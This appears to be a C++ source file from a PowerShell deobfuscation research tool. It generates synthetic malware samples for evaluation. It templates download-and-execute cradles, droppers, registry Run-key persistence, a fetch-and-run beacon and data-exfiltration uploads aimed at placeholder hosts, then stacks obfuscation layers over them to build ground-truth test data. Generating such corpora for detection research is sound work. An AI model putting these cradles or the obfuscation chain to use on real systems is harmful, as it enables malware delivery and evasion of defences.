@@ -1,0 +1,278 @@
+#include "corpus/corpus.h"
+
+#include <algorithm>
+
+#include "psast/parser.h"
+#include "psinterp/encodings.h"
+
+namespace ideobf {
+
+using ps::ByteVec;
+
+namespace {
+
+const std::vector<std::string>& kHosts() {
+  static const std::vector<std::string> hosts = {
+      "cdn-updates.example",  "files-mirror.test",   "static-assets.invalid",
+      "pkg-delivery.example", "img-hosting.test",    "api-gateway.invalid",
+      "update-server.example", "mail-relay.test",    "login-portal.invalid",
+      "download-hub.example",
+  };
+  return hosts;
+}
+
+const std::vector<std::string>& kPaths() {
+  static const std::vector<std::string> paths = {
+      "stage2", "loader", "update", "payload", "invoice",
+      "report",  "setup",  "svc",    "core",    "module",
+  };
+  return paths;
+}
+
+}  // namespace
+
+const std::vector<std::string>& CorpusGenerator::families() {
+  static const std::vector<std::string> fams = {
+      "downloader", "dropper", "recon", "persistence", "beacon", "oneliner",
+      "binary_dropper", "stager", "exfil",
+  };
+  return fams;
+}
+
+CorpusGenerator::CorpusGenerator(std::uint64_t seed, CorpusOptions options)
+    : rng_(seed), options_(options), obf_(seed ^ 0x9E3779B97F4A7C15ull) {}
+
+bool CorpusGenerator::coin(double p) {
+  return std::uniform_real_distribution<double>(0.0, 1.0)(rng_) < p;
+}
+
+std::size_t CorpusGenerator::idx(std::size_t n) {
+  return n == 0 ? 0 : static_cast<std::size_t>(rng_() % n);
+}
+
+std::string CorpusGenerator::host() { return kHosts()[idx(kHosts().size())]; }
+
+std::string CorpusGenerator::ip() {
+  return std::to_string(10 + idx(200)) + "." + std::to_string(idx(255)) + "." +
+         std::to_string(idx(255)) + "." + std::to_string(1 + idx(250));
+}
+
+std::string CorpusGenerator::path_ps1() {
+  return kPaths()[idx(kPaths().size())] + std::to_string(idx(100)) + ".ps1";
+}
+
+std::string CorpusGenerator::render_family(const std::string& family) {
+  const std::string h = host();
+  const std::string addr = ip();
+  const std::string file = path_ps1();
+  const std::string url = "http://" + h + "/" + file;
+  const std::string url2 = "https://" + h + "/" + kPaths()[idx(kPaths().size())] +
+                           ".txt";
+
+  if (family == "downloader") {
+    return "[Net.ServicePointManager]::SecurityProtocol = "
+           "[Net.SecurityProtocolType]::Tls12\n"
+           "$url = '" + url + "'\n"
+           "$client = New-Object Net.WebClient\n"
+           "$payload = $client.DownloadString($url)\n"
+           "Invoke-Expression $payload\n";
+  }
+  if (family == "dropper") {
+    return "$dest = Join-Path $env:TEMP '" + file + "'\n"
+           "(New-Object Net.WebClient).DownloadFile('" + url + "', $dest)\n"
+           "Start-Process powershell -ArgumentList $dest\n";
+  }
+  if (family == "recon") {
+    return "$info = $env:COMPUTERNAME + '|' + $env:USERNAME\n"
+           "$client = New-Object Net.WebClient\n"
+           "$client.UploadString('http://" + addr + "/collect', $info)\n";
+  }
+  if (family == "persistence") {
+    return "$script = 'C:\\ProgramData\\" + file + "'\n"
+           "(New-Object Net.WebClient).DownloadFile('" + url2 + "', $script)\n"
+           "New-ItemProperty -Path "
+           "'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name "
+           "'Updater' -Value ('powershell -File ' + $script)\n";
+  }
+  if (family == "beacon") {
+    return "$server = 'http://" + addr + ":8080/task'\n"
+           "$count = 0\n"
+           "while ($count -lt 3) {\n"
+           "    $task = (New-Object Net.WebClient).DownloadString($server)\n"
+           "    Invoke-Expression $task\n"
+           "    Start-Sleep 5\n"
+           "    $count++\n"
+           "}\n";
+  }
+  if (family == "stager") {
+    // Stage-to-disk-then-execute: the second stage is written into the
+    // (virtual) filesystem and invoked from there.
+    return "$stage = Join-Path $env:TEMP '" + file + "'\n"
+           "Set-Content $stage ((New-Object Net.WebClient).DownloadString('" +
+           url + "'))\n"
+           "Invoke-Expression (Get-Content $stage)\n";
+  }
+  if (family == "exfil") {
+    // Collect -> base64 -> upload: the compress/encode chain in reverse.
+    return "$blob = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("
+           "$env:COMPUTERNAME + '|' + $env:USERNAME))\n"
+           "$client = New-Object Net.WebClient\n"
+           "$client.UploadString('http://" + addr + ":8081/drop', $blob)\n";
+  }
+  if (family == "binary_dropper") {
+    // Base64 of *binary* content: decodes to bytes, never to a string —
+    // the case the paper cites for the un-mitigated share of L3 (65% of
+    // high-score L3 was Base64, mostly binary payloads).
+    ByteVec blob(96 + idx(160));
+    for (auto& b : blob) b = static_cast<std::uint8_t>(rng_());
+    return "$data = '" + ps::base64_encode(blob) + "'\n"
+           "$bytes = [Convert]::FromBase64String($data)\n"
+           "$exe = Join-Path $env:TEMP '" + kPaths()[idx(kPaths().size())] +
+           ".exe'\n"
+           "[IO.File]::WriteAllBytes($exe, $bytes)\n"
+           "Start-Process $exe\n"
+           "(New-Object Net.WebClient).DownloadString('" + url2 + "') | "
+           "Out-Null\n";
+  }
+  // oneliner
+  return "(New-Object Net.WebClient).DownloadString('" + url + "') | "
+         "Invoke-Expression\n";
+}
+
+std::string CorpusGenerator::random_clean_script() {
+  return render_family(families()[idx(families().size())]);
+}
+
+Sample CorpusGenerator::generate() {
+  Sample sample;
+  sample.family = families()[idx(families().size())];
+  sample.original = render_family(sample.family);
+  sample.ground_truth = extract_key_info(sample.original);
+
+  std::string script = sample.original;
+  auto use = [&](Technique t) {
+    const std::string next = obf_.apply(t, script);
+    if (next != script) {
+      script = next;
+      sample.techniques.push_back(t);
+      return true;
+    }
+    return false;
+  };
+  // Some picks are no-ops on a given script (no aliasable command, no
+  // literal left); retry with other candidates so the Table I marginals
+  // hold.
+  auto use_one_of = [&](const Technique* list, std::size_t n) {
+    for (int attempt = 0; attempt < 4; ++attempt) {
+      if (use(list[idx(n)])) return;
+    }
+  };
+
+  // One L2 string shape first (the original always has literals), then an
+  // L3 encoding over the result, then possibly a second L2 pass that splits
+  // the encoded blobs — the stacking wild samples show (paper Fig 7a).
+  const bool want_l2 = coin(options_.p_l2);
+  if (want_l2) {
+    static const Technique kL2[] = {Technique::Concat, Technique::Reorder,
+                                    Technique::Replace, Technique::Reverse};
+    use_one_of(kL2, std::size(kL2));
+  }
+  if (coin(options_.p_l3)) {
+    static const Technique kL3[] = {
+        Technique::AsciiEncoding, Technique::HexEncoding,
+        Technique::OctalEncoding, Technique::BinaryEncoding,
+        Technique::Base64Encoding, Technique::Bxor,
+        Technique::SecureString,   Technique::Compress,
+    };
+    use_one_of(kL3, std::size(kL3));
+  }
+  if (want_l2 && coin(0.35)) {
+    static const Technique kL2b[] = {Technique::Concat, Technique::Reorder,
+                                     Technique::Replace, Technique::Reverse};
+    use(kL2b[idx(std::size(kL2b))]);
+  }
+
+  // Invocation layers (multi-layer obfuscation).
+  if (coin(options_.p_multilayer)) {
+    const int layers = coin(0.3) ? 2 : 1;
+    for (int i = 0; i < layers; ++i) {
+      static const Technique kWrap[] = {Technique::Concat, Technique::Reorder,
+                                        Technique::Base64Encoding,
+                                        Technique::Replace};
+      const auto style = static_cast<Obfuscator::LayerStyle>(idx(3));
+      const std::string wrapped =
+          obf_.wrap_layer(script, kWrap[idx(std::size(kWrap))], style);
+      if (ps::is_valid_syntax(wrapped)) {
+        script = wrapped;
+        sample.layers++;
+      }
+    }
+  } else if (coin(options_.p_specialchar_wrapper)) {
+    use(Technique::SpecialCharEncoding);
+  } else if (coin(options_.p_whitespace_encoding)) {
+    use(Technique::WhitespaceEncoding);
+  }
+
+  // Occasionally rewrite method calls into dynamic-member form.
+  if (coin(0.15)) {
+    const std::string next = obf_.obfuscate_member_calls(script);
+    if (next != script) script = next;
+  }
+
+  // L1 token-level noise goes on last, over whatever the script now is.
+  if (coin(options_.p_l1)) {
+    static const Technique kL1[] = {Technique::Ticking, Technique::RandomCase,
+                                    Technique::RandomName, Technique::Alias,
+                                    Technique::Whitespacing};
+    use_one_of(kL1, std::size(kL1));
+    if (coin(0.5)) use(kL1[idx(std::size(kL1))]);
+    if (coin(0.25)) use(kL1[idx(std::size(kL1))]);
+  }
+
+  sample.obfuscated = std::move(script);
+  return sample;
+}
+
+std::vector<Sample> CorpusGenerator::generate_batch(std::size_t n) {
+  std::vector<Sample> out;
+  out.reserve(n);
+  for (std::size_t i = 0; i < n; ++i) out.push_back(generate());
+  return out;
+}
+
+Sample CorpusGenerator::generate_multilayer(int layers, int style_mix) {
+  Sample sample;
+  sample.family = "downloader";
+  sample.original = render_family(sample.family);
+  sample.ground_truth = extract_key_info(sample.original);
+
+  std::string script = sample.original;
+  for (int i = 0; i < layers; ++i) {
+    Technique wrap_technique;
+    Obfuscator::LayerStyle style;
+    switch (style_mix % 3) {
+      case 0:
+        // Plain literal layer: within reach of overriding-function tools.
+        wrap_technique = Technique::Concat;
+        style = Obfuscator::LayerStyle::IexPipe;
+        break;
+      case 1:
+        wrap_technique = Technique::Base64Encoding;
+        style = Obfuscator::LayerStyle::IexArgument;
+        break;
+      default:
+        wrap_technique = Technique::Reorder;
+        style = Obfuscator::LayerStyle::EncodedCommand;
+        break;
+    }
+    const std::string wrapped = obf_.wrap_layer(script, wrap_technique, style);
+    if (ps::is_valid_syntax(wrapped)) {
+      script = wrapped;
+      sample.layers++;
+    }
+  }
+  sample.obfuscated = std::move(script);
+  return sample;
+}
+
+}  // namespace ideobf
